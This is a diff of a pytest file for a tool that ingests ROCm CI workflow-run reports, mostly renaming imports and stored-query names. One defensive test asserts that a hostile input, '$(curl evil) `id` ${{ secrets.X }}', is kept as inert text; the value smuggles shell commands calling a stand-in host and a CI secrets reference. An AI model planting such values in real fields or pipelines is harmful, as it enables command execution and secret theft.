@@ -9,9 +9,10 @@ from pathlib import Path
 
 import pytest
 
-from quartz import cli, config, ingest
+from quartz import cli, config
 from quartz.errors import BadInput
-from quartz.store import Store
+from quartz.rocm import ingest
+from quartz.store.db import Store
 
 FIXTURES = Path(__file__).resolve().parent / "fixtures" / "rocm-quartz" / "payloads"
 REPO = Path(__file__).resolve().parent.parent
@@ -78,7 +79,7 @@ def test_real_report_is_stored_field_by_field(cfg, store, path):
     assert json.loads(stored["referenced_workflows"]) == run["referenced_workflows"]
     assert stored["jobs_from"] == ("payload" if run["jobs"] else "none")
 
-    jobs = store.query("statusjson_jobs", run_ids=[run["id"]])
+    jobs = store.query("rocm/status_jobs", run_ids=[run["id"]])
     full = {r[0]: r for r in store.db.execute("SELECT job_id, runner_name, labels, created_at FROM jobs").fetchall()}
     assert len(jobs) == len(run["jobs"])
     for want, got in zip(sorted(run["jobs"], key=lambda j: j["id"]), jobs, strict=True):
@@ -91,7 +92,7 @@ def test_real_report_is_stored_field_by_field(cfg, store, path):
                                                           t(want.get("created_at")))
 
     # The run as a whole: identity always; status and inputs only from the run's own workflow.
-    whole = store.query_one("ingest_run_get", run_id=run["id"])
+    whole = store.query_one("rocm/run_get", run_id=run["id"])
     r = store.db.execute("SELECT name, display_title, event, head_branch, head_sha, run_number, created_at, "
                          "html_url, actor, source, project, status, conclusion, workflow_path FROM workflow_runs"
                          ).fetchone()
@@ -136,7 +137,7 @@ def test_in_progress_after_completed_changes_nothing(cfg, store):
 def test_completed_after_in_progress_moves_the_run_forward(cfg, store):
     payload = json.loads(text(FIXTURES / "multi_arch_release_completed.json"))
     ingest.ingest(cfg, store, json.dumps(_in_progress_version(payload)), fetch=False, now=NOW)
-    assert store.query_one("ingest_run_get", run_id=payload["workflow_run"]["id"])["status"] == "in_progress"
+    assert store.query_one("rocm/run_get", run_id=payload["workflow_run"]["id"])["status"] == "in_progress"
     assert ingest.ingest(cfg, store, json.dumps(payload), fetch=False, now=NOW).outcome == "updated"
     run = store.db.execute("SELECT status, conclusion FROM workflow_runs").fetchone()
     attempt = store.db.execute("SELECT status, conclusion FROM run_attempts").fetchone()
@@ -160,7 +161,7 @@ def test_a_synced_run_keeps_its_data_and_learns_its_inputs(cfg, store):
     store.db.execute("INSERT INTO workflow_runs (run_id, repo, status, conclusion, source, fetched_at) "
                      "VALUES (?, 'ROCm/Quartz-Tester', 'completed', 'failure', 'sync', ?)", [run_id, NOW])
     ingest.ingest(cfg, store, json.dumps(payload), fetch=False, now=NOW)
-    row = store.query_one("ingest_run_get", run_id=run_id)
+    row = store.query_one("rocm/run_get", run_id=run_id)
     assert (row["source"], row["status"]) == ("sync", "completed")
     assert json.loads(row["inputs"]) == payload["workflow_run"]["inputs"]
     assert store.db.execute("SELECT conclusion FROM workflow_runs").fetchone() == ("failure",)
@@ -255,7 +256,7 @@ def test_script_in_names_is_stored_as_inert_text(cfg, store):
     ingest.ingest(cfg, store, json.dumps(payload), fetch=False, now=NOW)
     assert store.db.execute("SELECT display_title FROM workflow_runs").fetchone() == (hostile,)
     assert store.db.execute("SELECT count(*) FROM jobs WHERE name = ?", [hostile]).fetchone() == (1,)
-    assert json.loads(store.query_one("ingest_run_get", run_id=payload["workflow_run"]["id"])["inputs"])["ref"] \
+    assert json.loads(store.query_one("rocm/run_get", run_id=payload["workflow_run"]["id"])["inputs"])["ref"] \
         == "$(curl evil) `id` ${{ secrets.X }}"
 
 
